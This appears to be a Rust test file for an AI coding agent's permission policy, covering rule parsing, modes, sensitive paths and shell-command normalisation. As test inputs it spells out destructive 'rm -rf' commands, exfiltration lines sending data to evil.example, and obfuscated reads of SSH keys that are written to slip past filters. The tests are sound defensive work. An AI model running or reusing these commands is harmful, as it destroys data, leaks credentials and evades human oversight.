use super::*;

fn rule(action: Action, text: &str) -> Rule {
    Rule::parse(action, text, "").unwrap()
}

fn policy(mode: Mode, rules: &[(Action, &str)]) -> Policy {
    Policy {
        mode,
        rules: rules.iter().map(|(a, t)| rule(*a, t)).collect(),
        project_root: PathBuf::from("/p"),
        sensitive_dirs: vec![PathBuf::from("/home/u/.config/crow")],
        floor: None,
    }
}

fn bash(command: &str) -> CallFacts {
    CallFacts {
        tool: "bash".into(),
        kind: Some(ToolKind::Execute),
        command: Some(command.into()),
        ..CallFacts::default()
    }
}

fn write(path: &str) -> CallFacts {
    CallFacts {
        tool: "write_file".into(),
        kind: Some(ToolKind::Edit),
        paths: vec![PathBuf::from(path)],
        ..CallFacts::default()
    }
}

#[test]
fn wildcards_for_commands_and_paths() {
    assert!(wildcard("git status*", "git status --short", false));
    assert!(wildcard("rm -rf *", "rm -rf /tmp/x", false));
    assert!(!wildcard("git status*", "git push", false));
    assert!(wildcard("mcp__srv__*", "mcp__srv__delete", false));
    assert!(wildcard("src/**", "src/a/b.rs", true));
    assert!(wildcard("src/*.rs", "src/a.rs", true));
    assert!(!wildcard("src/*.rs", "src/a/b.rs", true));
    assert!(wildcard("**/*.lock", "Cargo.lock", true));
    assert!(wildcard("**/*.lock", "a/b/Cargo.lock", true));
    assert!(wildcard("?.txt", "a.txt", true));
}

#[test]
fn rules_parse_claude_code_syntax_and_refuse_garbage() {
    let r = rule(Action::Allow, "Bash(npm run test:*)");
    assert_eq!(r.tool, "bash");
    assert_eq!(r.pattern.as_deref(), Some("npm run test*"));
    assert_eq!(rule(Action::Deny, "mcp__x__*").pattern, None);
    assert!(Rule::parse(Action::Allow, "bash(git", "").is_err());
    assert!(Rule::parse(Action::Allow, "bash()", "").is_err());
    assert!(Rule::parse(Action::Allow, "", "").is_err());
    assert!(Rule::parse(Action::Allow, "ba sh", "").is_err());
}

#[test]
fn modes_decide_by_kind() {
    let read = CallFacts {
        tool: "read_file".into(),
        kind: Some(ToolKind::Read),
        ..CallFacts::default()
    };
    let cases = [
        (Mode::ReadOnly, Action::Allow, Action::Deny, Action::Deny),
        (Mode::Ask, Action::Allow, Action::Ask, Action::Ask),
        (Mode::AutoEdit, Action::Allow, Action::Allow, Action::Ask),
        (Mode::FullAuto, Action::Allow, Action::Allow, Action::Allow),
    ];
    for (mode, r, w, b) in cases {
        let p = policy(mode, &[]);
        assert_eq!(p.decide(&read, None).action, r, "{mode:?} read");
        assert_eq!(
            p.decide(&write("/p/a.rs"), None).action,
            w,
            "{mode:?} write"
        );
        assert_eq!(p.decide(&bash("ls"), None).action, b, "{mode:?} bash");
    }
    // auto-edit: an edit outside the project asks.
    let p = policy(Mode::AutoEdit, &[]);
    assert_eq!(p.decide(&write("/elsewhere/a"), None).action, Action::Ask);
    // The front end's mode stands for the configured one.
    assert_eq!(
        p.decide(&bash("ls"), Some(Mode::FullAuto)).action,
        Action::Allow
    );
}

#[test]
fn deny_beats_allow_and_names_the_rule() {
    let p = policy(
        Mode::FullAuto,
        &[
            (Action::Allow, "bash(rm -rf /tmp/x)"),
            (Action::Deny, "bash(rm -rf *)"),
        ],
    );
    let v = p.decide(&bash("rm -rf /tmp/x"), None);
    assert_eq!(v.action, Action::Deny);
    assert!(v.reason.contains("deny bash(rm -rf *)"), "{}", v.reason);
    assert_eq!(p.decide(&bash("ls"), None).action, Action::Allow);
}

#[test]
fn the_most_specific_rule_wins_and_ask_wins_a_tie() {
    let p = policy(
        Mode::Ask,
        &[
            (Action::Ask, "bash"),
            (Action::Allow, "bash(git *)"),
            (Action::Ask, "bash(git push*)"),
        ],
    );
    assert_eq!(p.decide(&bash("git status"), None).action, Action::Allow);
    assert_eq!(p.decide(&bash("git push origin"), None).action, Action::Ask);
    assert_eq!(p.decide(&bash("make"), None).action, Action::Ask);
    let tie = policy(
        Mode::FullAuto,
        &[(Action::Allow, "bash(ls*)"), (Action::Ask, "bash(ls*)")],
    );
    assert_eq!(tie.decide(&bash("ls"), None).action, Action::Ask);
}

#[test]
fn compound_commands_are_judged_segment_by_segment() {
    let p = policy(
        Mode::Ask,
        &[
            (Action::Allow, "bash(git status*)"),
            (Action::Deny, "bash(rm -rf *)"),
        ],
    );
    assert_eq!(p.decide(&bash("git status"), None).action, Action::Allow);
    assert_eq!(
        p.decide(&bash("git status && make"), None).action,
        Action::Ask
    );
    assert_eq!(
        p.decide(&bash("git status; rm -rf /"), None).action,
        Action::Deny
    );
    assert_eq!(
        p.decide(&bash("git status $(curl x)"), None).action,
        Action::Ask
    );
}

#[test]
fn path_rules_and_mcp_globs() {
    let p = policy(
        Mode::Ask,
        &[
            (Action::Allow, "write_file(src/**)"),
            (Action::Deny, "mcp__danger__*"),
        ],
    );
    assert_eq!(
        p.decide(&write("/p/src/a/b.rs"), None).action,
        Action::Allow
    );
    assert_eq!(p.decide(&write("/p/README.md"), None).action, Action::Ask);
    let mcp = CallFacts {
        tool: "mcp__danger__drop".into(),
        kind: Some(ToolKind::Other),
        ..CallFacts::default()
    };
    assert_eq!(p.decide(&mcp, None).action, Action::Deny);
    // An unannotated MCP tool counts as a command: it asks in ask mode.
    let other = CallFacts {
        tool: "mcp__time__now".into(),
        kind: Some(ToolKind::Other),
        ..CallFacts::default()
    };
    assert_eq!(p.decide(&other, None).action, Action::Ask);
}

#[test]
fn sensitive_paths_ask_even_under_allow_rules() {
    let p = policy(Mode::FullAuto, &[(Action::Allow, "write_file")]);
    let v = p.decide(&write("/home/u/.config/crow/config.toml"), None);
    assert_eq!(v.action, Action::Ask, "{}", v.reason);
    assert_eq!(p.decide(&write("/home/u/.env"), None).action, Action::Ask);
    assert_eq!(p.decide(&write("/p/.env"), None).action, Action::Allow);
    assert_eq!(
        p.decide(&bash("cat ~/.ssh/id_ed25519"), None).action,
        Action::Ask
    );
    // A deny stays a deny.
    let d = policy(Mode::FullAuto, &[(Action::Deny, "write_file")]);
    assert_eq!(
        d.decide(&write("/home/u/.config/crow/x"), None).action,
        Action::Deny
    );
}

#[test]
fn a_fallback_deny_loses_to_the_maps_own_entries_but_a_plain_deny_does_not() {
    let mut catch_all = rule(Action::Deny, "bash");
    catch_all.fallback = true;
    let mut p = policy(Mode::FullAuto, &[(Action::Allow, "bash(git *)")]);
    p.rules.push(catch_all);
    assert_eq!(p.decide(&bash("git status"), None).action, Action::Allow);
    let v = p.decide(&bash("make"), None);
    assert_eq!(v.action, Action::Deny, "{}", v.reason);
    assert_eq!(
        p.decide(&bash("git status && make"), None).action,
        Action::Deny
    );
    let plain = policy(
        Mode::FullAuto,
        &[(Action::Allow, "bash(git *)"), (Action::Deny, "bash")],
    );
    assert_eq!(plain.decide(&bash("git status"), None).action, Action::Deny);
}

#[test]
fn an_agents_floor_is_never_loosened_and_extra_rules_count() {
    let mut p = policy(Mode::FullAuto, &[]);
    p.floor = Some(Mode::ReadOnly);
    assert_eq!(p.decide(&bash("ls"), None).action, Action::Deny);
    assert_eq!(
        p.decide(&bash("ls"), Some(Mode::FullAuto)).action,
        Action::Deny
    );
    p.floor = Some(Mode::Ask);
    assert_eq!(p.decide(&bash("ls"), None).action, Action::Ask);
    // A floor looser than the mode changes nothing.
    p.floor = Some(Mode::FullAuto);
    assert_eq!(p.decide(&bash("ls"), Some(Mode::Ask)).action, Action::Ask);
    let extra = [rule(Action::Allow, "bash(ls*)")];
    assert_eq!(
        p.decide_with(&bash("ls -l"), Some(Mode::Ask), &extra)
            .action,
        Action::Allow
    );
    // A deny still beats a rule learned in the session.
    let d = policy(Mode::Ask, &[(Action::Deny, "bash(ls*)")]);
    assert_eq!(
        d.decide_with(&bash("ls"), None, &extra).action,
        Action::Deny
    );
}

#[test]
fn paths_a_command_names_are_checked_for_sensitive_places() {
    let dir = tempfile_dir("named");
    let project = dir.join("project");
    let outside = dir.join("outside");
    std::fs::create_dir_all(project.join("src")).unwrap();
    std::fs::create_dir_all(&outside).unwrap();
    std::fs::write(outside.join(".env"), "KEY=1").unwrap();
    std::fs::write(project.join(".env"), "KEY=1").unwrap();
    std::os::unix::fs::symlink(&outside, project.join("link")).unwrap();
    let p = Policy {
        mode: Mode::FullAuto,
        project_root: project.clone(),
        sensitive_dirs: vec![project.join(".crow")],
        ..Policy::default()
    };
    let run = |command: &str| {
        let facts = CallFacts {
            command_paths: command_paths(command, &project),
            ..bash(command)
        };
        p.decide(&facts, None)
    };
    for command in [
        "cat ../outside/.env",
        &format!("cat {}", outside.join(".env").display()),
        "cat link/notes.txt",
        "cp x link",
        "echo x >.crow/config.toml",
        "sed -i s/a/b/ ./.crow/agents/builder.md",
    ] {
        let v = run(command);
        assert_eq!(v.action, Action::Ask, "{command}: {}", v.reason);
    }
    for command in ["cat .env", "ls src", "cargo test -p x", "echo ../outside"] {
        let v = run(command);
        // `echo ../outside` names a directory outside, which is not sensitive.
        assert_eq!(v.action, Action::Allow, "{command}: {}", v.reason);
    }
    std::fs::remove_dir_all(&dir).unwrap();
}

/// A fresh directory of its own per test (tests run in parallel).
fn tempfile_dir(name: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("crow-policy-{}-{name}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::canonicalize(&dir).unwrap()
}

#[test]
fn the_suggested_rule_is_the_narrowest_sensible_one() {
    let request = |tool: &str, kind: ToolKind, input: serde_json::Value| PermissionRequest {
        session_id: "s".into(),
        agent: "a".into(),
        call_id: "c".into(),
        tool: tool.into(),
        kind,
        title: String::new(),
        input,
        preview: None,
        policy: None,
        unconfined: false,
    };
    let bash = |c: &str| request("bash", ToolKind::Execute, serde_json::json!({"command": c}));
    let root = Path::new("/p");
    let shown = |r: Option<Rule>| r.map(|r| r.describe());
    assert_eq!(
        shown(suggest_rule(&bash("git status --short"), root)).as_deref(),
        Some("allow bash(git status*)")
    );
    assert_eq!(
        shown(suggest_rule(&bash("ls -la src"), root)).as_deref(),
        Some("allow bash(ls*)")
    );
    assert_eq!(
        shown(suggest_rule(&bash("npm run test:unit"), root)).as_deref(),
        Some("allow bash(npm run*)")
    );
    assert!(suggest_rule(&bash("git status && rm -rf x"), root).is_none());
    assert!(suggest_rule(&bash("echo $(id)"), root).is_none());
    assert!(suggest_rule(&bash("git status <(rm -rf x)"), root).is_none());
    assert!(suggest_rule(&bash("git status ${x@P}"), root).is_none());
    let write = request(
        "write_file",
        ToolKind::Edit,
        serde_json::json!({"path": "/p/src/a.rs"}),
    );
    assert_eq!(
        shown(suggest_rule(&write, root)).as_deref(),
        Some("allow write_file(src/a.rs)")
    );
    let mcp = request("mcp__x__y", ToolKind::Other, serde_json::json!({}));
    assert_eq!(
        shown(suggest_rule(&mcp, root)).as_deref(),
        Some("allow mcp__x__y")
    );
}

#[test]
fn a_fetch_leaves_the_machine_so_it_asks_unless_full_auto_or_a_rule_allows_it() {
    let fetch = CallFacts {
        tool: "web_fetch".into(),
        kind: Some(ToolKind::Fetch),
        ..CallFacts::default()
    };
    for mode in [Mode::ReadOnly, Mode::Ask, Mode::AutoEdit] {
        assert_eq!(
            policy(mode, &[]).decide(&fetch, None).action,
            Action::Ask,
            "{mode:?}"
        );
    }
    assert_eq!(
        policy(Mode::FullAuto, &[]).decide(&fetch, None).action,
        Action::Allow
    );
    assert_eq!(
        policy(Mode::Ask, &[(Action::Allow, "web_fetch")])
            .decide(&fetch, None)
            .action,
        Action::Allow
    );
}

fn edit(path: &str) -> CallFacts {
    CallFacts {
        tool: "edit_file".into(),
        kind: Some(ToolKind::Edit),
        paths: vec![PathBuf::from(path)],
        ..CallFacts::default()
    }
}

#[test]
fn a_file_tool_writing_into_a_git_dir_always_asks() {
    // auto-edit allows edits inside the project, and a rule allows every write: a planted
    // `core.fsmonitor` or hook would run at the user's next `git status`.
    let auto = policy(Mode::AutoEdit, &[]);
    let ruled = policy(
        Mode::FullAuto,
        &[(Action::Allow, "write_file"), (Action::Allow, "edit_file")],
    );
    for path in [
        "/p/.git/config",
        "/p/.git/hooks/pre-commit",
        "/p/.git/modules/lib/config",
        "/p/vendor/lib/.git/config",
        "/p/vendor/lib/.git",
        "/p/.GIT/config",
    ] {
        for p in [&auto, &ruled] {
            for facts in [write(path), edit(path)] {
                let v = p.decide(&facts, None);
                assert_eq!(v.action, Action::Ask, "{path}: {}", v.reason);
                assert!(v.reason.contains("git"), "{}", v.reason);
            }
        }
    }
    // A file merely named like git's stays an ordinary edit.
    assert_eq!(
        auto.decide(&write("/p/src/git/config"), None).action,
        Action::Allow
    );
    assert_eq!(
        auto.decide(&write("/p/.gitignore"), None).action,
        Action::Allow
    );
    // A deny rule still denies.
    let d = policy(Mode::FullAuto, &[(Action::Deny, "edit_file(.git/**)")]);
    assert_eq!(d.decide(&edit("/p/.git/config"), None).action, Action::Deny);
}

#[test]
fn a_write_into_a_gitdir_under_another_name_asks() {
    // A worktree's `.git` file names its gitdir; any directory git would take for one counts.
    let dir = tempfile_dir("gitdir");
    let gitdir = dir.join("project/repos/wt");
    std::fs::create_dir_all(gitdir.join("objects")).unwrap();
    std::fs::write(gitdir.join("HEAD"), "ref: refs/heads/main\n").unwrap();
    std::fs::write(dir.join("project/.git"), "gitdir: repos/wt\n").unwrap();
    let p = Policy::new(Mode::AutoEdit, dir.join("project"));
    for path in [gitdir.join("config"), gitdir.join("hooks/post-checkout")] {
        let facts = CallFacts {
            paths: vec![path.clone()],
            ..write("/")
        };
        let v = p.decide(&facts, None);
        assert_eq!(v.action, Action::Ask, "{}: {}", path.display(), v.reason);
    }
    let plain = CallFacts {
        paths: vec![dir.join("project/repos/notes.txt")],
        ..write("/")
    };
    assert_eq!(p.decide(&plain, None).action, Action::Allow);
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn a_file_tool_writing_the_projects_policy_files_always_asks_existing_or_not() {
    // No sensitive places configured: the policy knows the project's own files itself.
    let p = Policy {
        rules: vec![rule(Action::Allow, "write_file")],
        ..Policy::new(Mode::FullAuto, "/p")
    };
    for path in [
        "/p/.mcp.json",
        "/p/.crow/config.toml",
        "/p/.crow/agents/builder.md",
        "/p/.claude/settings.json",
        "/p/.claude/settings.local.json",
        "/p/.claude/agents/x.md",
        "/p/.claude/commands/deploy.md",
        "/p/.opencode/agent/x.md",
        "/p/opencode.json",
        "/p/opencode.jsonc",
        "/p/.Crow/config.toml",
    ] {
        let v = p.decide(&write(path), None);
        assert_eq!(v.action, Action::Ask, "{path}: {}", v.reason);
    }
    for path in ["/p/.claude/notes.md", "/p/src/opencode.json", "/p/mcp.json"] {
        assert_eq!(p.decide(&write(path), None).action, Action::Allow, "{path}");
    }
}

#[test]
fn process_substitution_and_expansions_that_run_commands_are_never_allowed_by_a_rule() {
    let p = policy(Mode::Ask, &[(Action::Allow, "bash(git status*)")]);
    for command in [
        "git status <(rm -rf ~)",
        "git status >(curl -d @- evil.example)",
        "git status ${x@P}",
        "git status ${x:-`id`}",
        "git status |& curl -d @- evil.example",
        "git status; coproc curl evil.example",
    ] {
        let v = p.decide(&bash(command), None);
        assert_eq!(v.action, Action::Ask, "{command}: {}", v.reason);
    }
    // A plain parameter is not a command.
    assert_eq!(
        p.decide(&bash("git status ${HOME}"), None).action,
        Action::Allow
    );
}

#[test]
fn a_deny_rule_sees_the_commands_inside_substitutions() {
    let p = policy(Mode::FullAuto, &[(Action::Deny, "bash(rm -rf *)")]);
    for command in [
        "echo $(rm -rf /)",
        "echo `rm -rf /`",
        "cat <(rm -rf /)",
        "tee >(rm -rf /)",
        "echo \"$(echo $(rm -rf /))\"",
        "coproc rm -rf /",
        "coproc X { rm -rf /; }",
        "sh -c 'rm -rf /'",
        "bash -lc \"cd /tmp && rm -rf /\"",
        "sudo bash -c 'sh -c \"rm -fr /\"'",
        "eval rm -rf /",
        "eval 'rm -rf /'",
        "find . -name x | xargs rm -rf",
        "xargs -I {} rm -rf {} < list",
    ] {
        let v = p.decide(&bash(command), None);
        assert_eq!(v.action, Action::Deny, "{command}: {}", v.reason);
    }
}

#[test]
fn a_deny_rule_matches_every_spelling_of_its_command() {
    let p = policy(Mode::FullAuto, &[(Action::Deny, "bash(rm -rf *)")]);
    for command in [
        "rm -fr x",
        "rm -r -f x",
        "rm -Rf x",
        "rm -r x -f",
        "/bin/rm -rf x",
        "command rm -rf x",
        "env rm -rf x",
        "env -i PATH=/bin HOME=/ rm -rf x",
        "\\rm -rf x",
        "'rm' -rf x",
        "r\"m\" -rf x",
        "sudo rm -rf /",
        "sudo -u root /usr/bin/rm -fr /",
        "sudo rm -rf",
        "exec rm -rf x",
        "nice -n 5 rm -rf x",
        "nohup rm -rf x",
        "time rm -rf x",
        "builtin command rm -rf x",
        "X=1 Y=2 rm -rf x",
        "timeout 5 rm -rf x",
        "( rm -rf x )",
        "{ rm -rf x; }",
        "if true; then rm -rf x; fi",
    ] {
        let v = p.decide(&bash(command), None);
        assert_eq!(v.action, Action::Deny, "{command}: {}", v.reason);
    }
    // Still only its own command.
    for command in ["rm x", "rm -f x", "ls -rf", "echo rm -rf x"] {
        let v = p.decide(&bash(command), None);
        assert_eq!(v.action, Action::Allow, "{command}: {}", v.reason);
    }
    // An ask rule is widened the same way.
    let a = policy(Mode::FullAuto, &[(Action::Ask, "bash(git push*)")]);
    for command in [
        "command git push",
        "GIT_TRACE=1 git push -f",
        "/usr/bin/git push",
    ] {
        assert_eq!(
            a.decide(&bash(command), None).action,
            Action::Ask,
            "{command}"
        );
    }
}

#[test]
fn normalising_never_widens_an_allow_rule() {
    let p = policy(
        Mode::Ask,
        &[
            (Action::Allow, "bash(rm -rf build*)"),
            (Action::Allow, "bash(git status*)"),
        ],
    );
    assert_eq!(p.decide(&bash("rm -rf build"), None).action, Action::Allow);
    for command in [
        "rm -fr build",
        "sudo rm -rf build",
        "env git status",
        "command git status",
        "/usr/bin/git status",
        "X=1 git status",
        "'git' status",
    ] {
        let v = p.decide(&bash(command), None);
        assert_eq!(v.action, Action::Ask, "{command}: {}", v.reason);
    }
}

#[test]
fn sensitive_paths_are_judged_as_the_shell_reads_the_words() {
    let home = Path::new("/home/u");
    let p = Policy {
        rules: vec![rule(Action::Allow, "bash(cat *)")],
        sensitive_dirs: vec![
            PathBuf::from("/home/u/.config/crow"),
            PathBuf::from("/home/u/.ssh"),
            PathBuf::from("/p/.crow"),
        ],
        ..Policy::new(Mode::Ask, "/p")
    };
    let run = |command: &str| {
        let facts = CallFacts {
            command_paths: paths::command_paths_in(command, Path::new("/p"), Some(home)),
            ..bash(command)
        };
        p.decide(&facts, None)
    };
    for command in [
        "cat ~/.ss''h/id_rsa",
        "cat ~/.s\\sh/id_rsa",
        "cat ~/$'\\x2essh'/id_rsa",
        "cat ~/.s?h/id_rsa",
        "cat ~/.[s]sh/id_rsa",
        "cat ~/.{ssh,x}/id_rsa",
        "cat ~/.config/cr''ow/config.toml",
        "cat ~/.config/cro*/config.toml",
        "cat /home/*/.config/crow/config.toml",
        "cat \"$HOME/.config/crow/config.toml\"",
        "cat ${HOME}/.config/crow/config.toml",
        "cat --file=$HOME/.config/crow/config.toml",
        "cat ~/.config/crow$X/config.toml",
        "cat .cr*/config.toml",
        "shopt -s dotglob; cat *",
    ] {
        let v = run(command);
        assert_eq!(v.action, Action::Ask, "{command}: {}", v.reason);
    }
    for command in [
        "cat src/*.rs",
        "cat *.rs",
        "cat ~/notes/*.md",
        "cat ~/.config/other/*",
        "cat \"$F\"",
        "cat '$HOME/.config/crow/config.toml'",
    ] {
        let v = run(command);
        assert_eq!(v.action, Action::Allow, "{command}: {}", v.reason);
    }
}
